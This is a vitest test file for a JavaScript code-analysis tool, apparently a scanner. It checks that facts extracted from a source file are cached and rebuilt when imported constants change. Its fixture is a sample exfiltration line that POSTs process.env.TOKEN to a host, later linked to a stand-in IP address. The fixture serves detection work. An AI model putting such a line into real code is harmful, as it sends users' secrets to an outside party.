import { describe, expect, it } from 'vitest';
import { clearLinks, setLinks } from '../../common/linked-constants-store.js';
import { javascriptFacts } from './javascript-facts.js';
import { sharedJavascriptFacts } from './shared-facts.js';

describe('sharedJavascriptFacts (round s30: the facts of a file made once for the rules that read them)', () => {
  const text = "import { HOST } from './consts.js';\nfetch(HOST + '/c', { method: 'POST', body: process.env.TOKEN });\n";

  it('hands the same facts to each reader of the same text, equal to javascriptFacts', () => {
    clearLinks();
    const facts = sharedJavascriptFacts(text);
    expect(sharedJavascriptFacts(text)).toBe(facts);
    expect(facts).toEqual(javascriptFacts(text));
    // Another language, another text: facts of their own.
    expect(sharedJavascriptFacts(text, { typescript: true })).not.toBe(facts);
    expect(sharedJavascriptFacts('let a = 1;')).not.toBe(facts);
  });

  it('makes them again when the artifact’s links change (a constant imported from another module)', () => {
    clearLinks();
    const before = sharedJavascriptFacts(text);
    setLinks(text, new Map([['HOST', 'https://203.0.113.9']]), new Map());
    const after = sharedJavascriptFacts(text);
    expect(after).not.toBe(before);
    expect(after).toEqual(javascriptFacts(text));
    clearLinks();
    expect(sharedJavascriptFacts(text)).toEqual(javascriptFacts(text));
  });
});
